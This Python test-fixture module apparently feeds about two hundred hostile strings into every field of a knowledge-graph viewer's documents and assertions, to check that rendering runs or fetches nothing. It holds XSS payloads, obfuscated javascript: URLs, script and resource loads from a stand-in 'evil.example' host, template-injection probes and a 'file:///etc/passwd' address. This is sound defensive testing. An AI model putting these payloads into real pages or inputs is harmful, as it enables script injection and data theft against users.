"""Two hundred texts that try to run a script, to fetch something or to break what shows them, each in all fields.

`tests/view/hostile.py` has those that are hardest on the drawing, as ids too; here is the breadth. What a script among
them would do is always the same: it sets `window.__broken`.
"""

import datetime

from kgraph.model import (
    Assertion,
    Background,
    BackgroundName,
    Document,
    Entity,
    EntityKind,
    Evidence,
    Modality,
    Polarity,
    Reading,
    Span,
)

__all__ = ["BACKGROUND", "TEXTS", "TITLE", "read_assertions", "read_documents", "readings"]

RUN = "window.__broken=1"
AWAY = "http://evil.example"

EVENTS = (
    "abort animationend animationstart auxclick beforeinput beforetoggle begin blur canplay change click contextmenu"
    " cut drag error focus focusin hashchange input keydown load loadstart message mousemove mouseover pageshow paste"
    " play pointerdown pointerover popstate resize scroll securitypolicyviolation select submit toggle transitionend"
    " unload wheel"
)
CLOSINGS = (
    "</script>", "</ScRiPt >", "</script\n>", "</script/x>", "</style>", "</title>", "</textarea>", "</noscript>",
    "</template>", "</svg>", "</math>", "</select>", "</table>", "</q>", "</iframe>", "-->", "--!>", "]]>", "?>",
    "*/", "'", '"', "`", "\\'", '\\"', "');", '");', "}}", "%>", "\u2028",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JAVASCRIPT:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java\x00script:{RUN}",
    f" \x01\x1fjavascript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", "javascript:%77indow.__broken=1",
    f"javascript://example.org/%0a{RUN}", f"jav\u00adascript:{RUN}", f"ｊavascript:{RUN}", f"vbscript:{RUN}",
    f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"data:image/svg+xml,<svg onload='{RUN}'>", "blob:null/1", "file:///etc/passwd", "\\\\evil.example\\share", AWAY,
    "//evil.example", "https:evil.example", "https://user:word@evil.example:1/x", "http://evil.example\\@example.org",
    "http://[::1]:9/", "http://127.0.0.1:9/", "http://x.example/\u202egpj.exe", "https://xn--80ak6aa92e.com",
    "about:blank",
    "view-source:https://x.example", "ftp://evil.example/x", "mailto:x@evil.example", "tel:1", "ws://evil.example/x",
    "https://x.example/?a=1&lt;b=2#<x>", "https://x.example/" + "a/" * 2_000, "?q=1#fragment", "#panel", ".", "..",
)  # fmt: skip
FETCHES = (
    f"<img src={AWAY}/1>", f"<img srcset='{AWAY}/2 1x'>", f"<picture><source srcset={AWAY}/3><img></picture>",
    f"<link rel=stylesheet href={AWAY}/4>", f"<link rel=prefetch href={AWAY}/5>", f"<link rel=preconnect href={AWAY}>",
    f"<link rel=dns-prefetch href={AWAY}>", f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<iframe src={AWAY}/6></iframe>", "<iframe srcdoc='<script>parent.__broken=1</script>'></iframe>",
    f"<object data={AWAY}/7></object>", f"<embed src={AWAY}/8>", f"<video src={AWAY}/9 autoplay></video>",
    f"<audio src={AWAY}/10 autoplay></audio>", f"<track src={AWAY}/11>", f"<input type=image src={AWAY}/12>",
    f"<body background={AWAY}/13>", f"<a href={AWAY} ping={AWAY}/14>x</a>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<style>@import '{AWAY}/15';</style>", f"<p style='background:url({AWAY}/16)'>", "<p style='width:expression(1)'>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/17)}}*{{font-family:x}}</style>",
    f"<svg><image href={AWAY}/18></svg>", f"<svg><use href='{AWAY}/19#x'></svg>", f"<script src={AWAY}/20></script>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>", f"<math href='javascript:{RUN}'>x</math>",
    f"<details open ontoggle={RUN}>", f"<portal src={AWAY}/21>", f"<script type=module>import '{AWAY}/22'</script>",
    "<style>body{display:none!important}</style>", f"url({AWAY}/23)", f"}}*{{background:url({AWAY}/24)}}",
    f"<table background={AWAY}/25>", f"<frameset onload={RUN}>", f"<marquee onstart={RUN}>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{constructor.constructor('window.__broken=1')()}}", "${window.__broken=1}", "<%= 7*7 %>", "#{7*7}",
    "{% for x in y %}", "{{ config.items() }}", "{{''.__class__.__mro__}}", "{#", "{{{raw}}}", "[[7*7]]", "@{7*7}",
    "{0.__class__}", "%(x)s %s %n", "$(window.__broken=1)", "`window.__broken=1`", "!!js/function", "<!--#exec -->",
)  # fmt: skip
LETTERS = (
    "\u202eevil\u202c", "\u202a\u202b\u202d\u202e", "\u2066\u2067\u2068", "\u200e\u200f\u061c", "\x00", "a\x00b\x00c",
    "\x1b[2J\x1b[31m", "\x07\x08\x7f", "\ufeff\ufeff", "\ufffe\uffff", "\U0010ffff", "\ud800", "\udfff\ud800",
    "e" + "\u0301" * 500, "\u0e49" * 200, "\u1f9fe" * 9, "👨‍👩‍👧‍👦" * 40, "ﷺ" * 50, "\u3164", "\u2800" * 9,
    "\r\r\n\n\u2028\u2029\x85",
    "x" * 20_000, "<" * 5_000, "&" * 5_000, '"' * 5_000, "\\" * 2_000, " " * 5_000, "<b>" * 3_000, "很" * 8_000,
    "__proto__", "constructor", "prototype", "toString", "window", "document", "__page", "__ready", "null",
    "undefined",
)  # fmt: skip


def _all_texts() -> list[str]:
    events = [
        f"<img src=x on{event}='{RUN}' on{event.upper()}={RUN} autofocus tabindex=0>"
        for event in EVENTS.split()
    ]
    closings = [f"{closing}<script>{RUN}</script>" for closing in CLOSINGS]
    return [*events, *closings, *ADDRESSES, *FETCHES, *TEMPLATES, *LETTERS]


TEXTS = tuple(_all_texts())
TITLE = "".join(CLOSINGS) + f"<script>{RUN}</script>"
BACKGROUND = Background(
    names={
        each: (BackgroundName(text=text, lang=text[:20], used_by=text, user=text),)
        for number, text in enumerate(TEXTS)
        for each in (f"s{number}", f"o{number}")
    }
)


def read_documents() -> list[Document]:
    """Give one article for each text, which stands in all its fields."""
    return [
        Document(
            id=text, text=text, title=text, source=text, url=text, date=datetime.date(2020, 1, 1 + i % 31)
        )
        for i, text in enumerate(TEXTS)
    ]


def read_assertions() -> list[Assertion]:
    """Give one statement for each text, in which it is all names and the quotation."""
    return [_assertion(i, text) for i, text in enumerate(TEXTS)]


def _assertion(number: int, text: str) -> Assertion:
    kinds = list(EntityKind)
    said = Evidence(
        document_id=text,
        span=Span(start=0, end=len(text)),
        quotation=text,
        attribution_text=text,
        rule=text,
        confidence=0.5,
    )
    subject = Entity(id=f"s{number}", label=text, kind=kinds[number % 6], known=bool(number % 2))
    other = Entity(id=f"o{number}", label=f"{text} {number}", kind=EntityKind.TERRITORY, known=False)
    return Assertion(
        subject=subject,
        predicate="claims",
        object=other,
        about=Entity(id=f"n{number}", label=text, kind=EntityKind.NAME),
        polarity=list(Polarity)[number % 2],
        modality=list(Modality)[number // 2 % 2],
        attribution=other if number % 3 else None,
        time=text,
        evidence=(said,),
    )


def readings() -> list[Reading]:
    """Give each article with its statement."""
    pairs = zip(read_documents(), read_assertions(), strict=True)
    return [
        Reading(document=document, assertions=(said,), sentences=1, sentences_with_assertion=1)
        for document, said in pairs
    ]
